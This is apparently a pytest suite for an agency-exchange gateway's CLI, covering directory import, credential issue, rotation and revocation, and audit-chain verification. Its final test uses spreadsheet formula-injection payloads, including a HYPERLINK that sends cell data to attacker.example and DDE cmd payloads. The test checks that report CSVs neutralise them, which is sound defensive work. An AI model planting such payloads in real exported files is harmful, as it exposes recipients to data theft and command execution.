"""Operator commands: directory, credentials and audit, through the real CLI on both backends."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import Result
from sqlalchemy import select, update

from gateway.config import Settings
from gateway.errors import AuthenticationFailed
from gateway.exchange.service import ExchangeService
from gateway.store.blobs import BlobStore
from gateway.store.database import Database
from gateway.store.models import Agency, AuditEntry, Credential

Invoke = Callable[..., Result]

HEADER = "code,name,level,parent_code,test_code,note\n"
GOOD_CSV = HEADER + (
    "000.00.00.G22,Văn phòng Chính phủ,1,,0,verified\n"
    "000.00.00.H41,Ủy ban nhân dân tỉnh Nghệ An,1,,0,verified\n"
    '000.00.05.H41,"Sở Thông tin và Truyền thông, Nghệ An",2,000.00.00.H41,1,invented\n'
)


def _service(settings: Settings, at: datetime | None = None) -> ExchangeService:
    assert settings.blob_dir is not None
    clock = (lambda: at) if at is not None else (lambda: datetime.now(UTC))
    return ExchangeService(Database(settings.database_url), BlobStore(settings.blob_dir), settings, clock=clock)


def _agencies(settings: Settings) -> dict[str, Agency]:
    with Database(settings.database_url).transaction() as session:
        return {a.code: a for a in session.scalars(select(Agency))}


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _secret(cli: Invoke, *args: str) -> str:
    result = cli("credentials", *args)
    assert result.exit_code == 0, result.output
    assert "shown only once" in result.stderr
    return result.stdout.strip()


def test_commands_refuse_a_store_without_schema(cli: Invoke) -> None:
    result = cli("agencies", "list")
    assert result.exit_code == 1
    assert "run `edxml-gateway db upgrade` first" in result.stderr
    assert "Traceback" not in result.output


def test_import_good_csv_then_reimport_is_unchanged(
    upgraded_cli: Invoke, cli_settings: Settings, tmp_path: Path
) -> None:
    path = _write(tmp_path, "agencies.csv", GOOD_CSV)
    first = upgraded_cli("agencies", "import", str(path))
    assert first.exit_code == 0, first.output
    assert "3 agencies read: 3 added, 0 updated, 0 unchanged." in first.stdout
    agencies = _agencies(cli_settings)
    assert agencies["000.00.05.H41"].name == "Sở Thông tin và Truyền thông, Nghệ An"
    assert agencies["000.00.05.H41"].parent_code == "000.00.00.H41"
    assert agencies["000.00.05.H41"].test_code is True
    renamed = _write(tmp_path, "renamed.csv", GOOD_CSV.replace("Văn phòng Chính phủ", "VPCP"))
    second = upgraded_cli("agencies", "import", str(renamed))
    assert "3 agencies read: 0 added, 1 updated, 2 unchanged." in second.stdout
    assert _agencies(cli_settings)["000.00.00.G22"].name == "VPCP"


def test_import_json(upgraded_cli: Invoke, cli_settings: Settings, tmp_path: Path) -> None:
    rows = [
        {"code": "000.00.00.H14", "name": "Ủy ban nhân dân tỉnh Cao Bằng", "level": 1},
        {"code": "000.00.01.H14", "name": "Văn phòng UBND tỉnh Cao Bằng", "level": 2, "parent_code": "000.00.00.H14"},
    ]
    path = _write(tmp_path, "agencies.json", json.dumps(rows, ensure_ascii=False))
    result = upgraded_cli("agencies", "import", str(path))
    assert result.exit_code == 0, result.output
    assert set(_agencies(cli_settings)) == {"000.00.00.H14", "000.00.01.H14"}


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("000.00.00.G22,VPCP,1,,0,\n000.00.00.g41,Nghệ An,1,,0,\n", "line 3: '000.00.00.g41' is not an agency code"),
        ("000.00.00.G22,VPCP,1,,0,\n000.00.05.H41,Sở,2,000.00.00.H99,0,\n", "line 3: parent 000.00.00.H99"),
        ("000.00.00.G22,VPCP,one,,0,\n", "line 2: level 'one'"),
        (
            "000.00.00.G22,VPCP,1,,0,\n000.00.00.H41,NA,1,,0,\n000.00.00.G22,again,1,,0,\n",
            "line 4: 000.00.00.G22 appears twice (first at line 2)",
        ),
        ("000.00.00.G22,,1,,0,\n", "line 2: missing name"),
        ("000.00.00.G22,VPCP,1,,maybe,\n", "line 2: test_code 'maybe'"),
    ],
)
def test_import_bad_csv_names_the_line_and_changes_nothing(
    upgraded_cli: Invoke, cli_settings: Settings, tmp_path: Path, body: str, message: str
) -> None:
    path = _write(tmp_path, "bad.csv", HEADER + body)
    result = upgraded_cli("agencies", "import", str(path))
    assert result.exit_code == 1
    assert message in result.stderr
    assert "Traceback" not in result.output
    assert _agencies(cli_settings) == {}


def test_import_of_a_file_that_is_not_utf8_names_the_file_once(upgraded_cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "cp1258.csv"
    path.write_bytes((HEADER + "000.00.00.G22,Văn,1,,0,\n").encode("cp1258"))
    result = upgraded_cli("agencies", "import", str(path))
    assert result.exit_code == 1
    unwrapped = " ".join(result.stderr.split())  # the console wraps long lines at a space
    assert unwrapped == f"error: {path}: not UTF-8 text (invalid continuation byte at byte 58)"


def test_import_parent_may_come_from_the_directory(upgraded_cli: Invoke, tmp_path: Path) -> None:
    assert upgraded_cli("agencies", "add", "000.00.00.H41", "Nghệ An", "--level", "1").exit_code == 0
    path = _write(tmp_path, "child.csv", HEADER + "000.00.05.H41,Sở TT&TT,2,000.00.00.H41,1,\n")
    result = upgraded_cli("agencies", "import", str(path))
    assert result.exit_code == 0, result.output


def test_load_shipped_and_list(upgraded_cli: Invoke) -> None:
    loaded = upgraded_cli("agencies", "load-shipped")
    assert "101 agencies read: 101 added" in loaded.stdout
    listed = upgraded_cli("agencies", "list", "--parent", "000.00.30.H41")
    assert listed.exit_code == 0, listed.output
    assert "000.01.30.H41" in listed.stdout and "000.02.30.H41" in listed.stdout
    assert "000.00.00.G22" not in listed.stdout
    assert "2 agencies" in listed.stdout


def test_add_disable_enable(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    assert upgraded_cli("agencies", "add", "000.00.00.H41", "Nghệ An", "--level", "1").exit_code == 0
    added = upgraded_cli("agencies", "add", "000.00.05.H41", "Sở TT&TT", "--level", "2", "--parent", "000.00.00.H41")
    assert added.exit_code == 0, added.output
    duplicate = upgraded_cli("agencies", "add", "000.00.05.H41", "Sở", "--level", "2")
    assert duplicate.exit_code == 1 and "already in the directory" in duplicate.stderr
    orphan = upgraded_cli("agencies", "add", "000.00.06.H41", "Sở", "--level", "2", "--parent", "000.00.00.H99")
    assert orphan.exit_code == 1 and "No agency 000.00.00.H99" in orphan.stderr
    bad = upgraded_cli("agencies", "add", "G22", "VPCP", "--level", "1")
    assert bad.exit_code == 1 and "'G22' is not an agency code" in bad.stderr

    secret = _secret(upgraded_cli, "issue", "000.00.05.H41")
    service = _service(cli_settings)
    assert service.authenticate("000.00.05.H41", secret).code == "000.00.05.H41"
    assert upgraded_cli("agencies", "disable", "000.00.05.H41").exit_code == 0
    assert _agencies(cli_settings)["000.00.05.H41"].active is False
    with pytest.raises(AuthenticationFailed):
        service.authenticate("000.00.05.H41", secret)
    assert "DISABLED" in upgraded_cli("agencies", "list").stdout
    assert upgraded_cli("agencies", "enable", "000.00.05.H41").exit_code == 0
    assert service.authenticate("000.00.05.H41", secret).code == "000.00.05.H41"
    unknown = upgraded_cli("agencies", "disable", "000.00.00.H99")
    assert unknown.exit_code == 1 and "No agency 000.00.00.H99" in unknown.stderr


def test_issued_secret_authenticates_and_only_its_hash_is_stored(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    secret = _secret(upgraded_cli, "issue", "000.00.00.G22")
    assert _service(cli_settings).authenticate("000.00.00.G22", secret).code == "000.00.00.G22"
    with Database(cli_settings.database_url).transaction() as session:
        stored = session.scalars(select(Credential.secret_hash)).all()
    assert len(stored) == 1 and secret not in stored[0]
    with pytest.raises(AuthenticationFailed):
        _service(cli_settings).authenticate("000.00.00.G22", secret + "x")


def test_issue_with_expiry(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    secret = _secret(upgraded_cli, "issue", "000.00.00.G22", "--expires-days", "2")
    later = datetime.now(UTC) + timedelta(days=1)
    expired = datetime.now(UTC) + timedelta(days=3)
    assert _service(cli_settings, later).authenticate("000.00.00.G22", secret).code == "000.00.00.G22"
    with pytest.raises(AuthenticationFailed):
        _service(cli_settings, expired).authenticate("000.00.00.G22", secret)


def test_rotate_without_grace_stops_the_old_secret_now(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    old = _secret(upgraded_cli, "issue", "000.00.00.G22")
    new = _secret(upgraded_cli, "rotate", "000.00.00.G22")
    assert new != old
    service = _service(cli_settings)
    assert service.authenticate("000.00.00.G22", new).code == "000.00.00.G22"
    with pytest.raises(AuthenticationFailed):
        service.authenticate("000.00.00.G22", old)


def test_rotate_with_grace_keeps_the_old_secret_for_a_while(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    old = _secret(upgraded_cli, "issue", "000.00.00.G22")
    new = _secret(upgraded_cli, "rotate", "000.00.00.G22", "--grace-hours", "2")
    within = _service(cli_settings, datetime.now(UTC) + timedelta(hours=1))
    after = _service(cli_settings, datetime.now(UTC) + timedelta(hours=3))
    assert within.authenticate("000.00.00.G22", old).code == "000.00.00.G22"
    assert after.authenticate("000.00.00.G22", new).code == "000.00.00.G22"
    with pytest.raises(AuthenticationFailed):
        after.authenticate("000.00.00.G22", old)


def test_revoke_and_unknown_agency(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    secret = _secret(upgraded_cli, "issue", "000.00.00.G22")
    revoked = upgraded_cli("credentials", "revoke", "000.00.00.G22")
    assert "Revoked 1 credential(s)" in revoked.stdout
    with pytest.raises(AuthenticationFailed):
        _service(cli_settings).authenticate("000.00.00.G22", secret)
    unknown = upgraded_cli("credentials", "issue", "000.00.00.X99")
    assert unknown.exit_code == 1
    expected = "error: No agency 000.00.00.X99 in the directory; see `edxml-gateway agencies list`."
    assert unknown.stderr.strip() == expected


def test_audit_verify_ok_then_broken(upgraded_cli: Invoke, cli_settings: Settings) -> None:
    upgraded_cli("agencies", "add", "000.00.00.G22", "VPCP", "--level", "1")
    _secret(upgraded_cli, "issue", "000.00.00.G22")
    _secret(upgraded_cli, "rotate", "000.00.00.G22")
    ok = upgraded_cli("audit", "verify")
    assert ok.exit_code == 0, ok.output
    assert "audit chain intact: 4 entries checked" in ok.stdout
    with Database(cli_settings.database_url).transaction() as session:
        second = session.scalars(select(AuditEntry.id).order_by(AuditEntry.id)).all()[1]
        session.execute(update(AuditEntry).where(AuditEntry.id == second).values(actor="someone else"))
    broken = upgraded_cli("audit", "verify")
    assert broken.exit_code == 1
    assert f"audit chain BROKEN at entry {second} (after 1 good entries)" in broken.stderr
    assert "edited" in broken.stderr


FORMULA_NAMES = {
    "000.00.00.G22": '=HYPERLINK("http://attacker.example/?"&A1,"Văn phòng Chính phủ")',
    "000.00.00.H41": "+cmd|' /C calc'!A0",
    "000.00.00.H14": "@SUM(1+1)*cmd|' /C calc'!A0",
    "000.00.00.H30": "-2+3",
}


def test_report_csvs_never_carry_a_formula(upgraded_cli: Invoke, tmp_path: Path) -> None:
    """Agency names that a spreadsheet would run are written as text (a leading quote); numbers stay numbers."""
    rows = "".join(f'{code},"{name.replace(chr(34), chr(34) * 2)}",1,,0,\n' for code, name in FORMULA_NAMES.items())
    imported = upgraded_cli("agencies", "import", str(_write(tmp_path, "hostile.csv", HEADER + rows)))
    assert imported.exit_code == 0, imported.output
    added = upgraded_cli(
        "agencies", "add", "000.00.01.G22", "@ Phòng Hành chính", "--level", "2", "--parent", "000.00.00.G22"
    )
    assert added.exit_code == 0, added.output
    grades, table = tmp_path / "grades.csv", tmp_path / "report.csv"
    result = upgraded_cli("report", "--grades-csv", str(grades), "--csv", str(table))
    assert result.exit_code == 0, result.output

    written = {row["code"]: row for row in csv.DictReader(grades.open(encoding="utf-8", newline=""))}
    expected = {**FORMULA_NAMES, "000.00.01.G22": "@ Phòng Hành chính"}
    assert {code: row["name"] for code, row in written.items()} == {c: "'" + n for c, n in expected.items()}
    assert written["000.00.01.G22"]["level"] == "2" and written["000.00.01.G22"]["parent_code"] == "000.00.00.G22"
    assert written["000.00.00.H30"]["connected"] == "0"
    for path in (grades, table):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
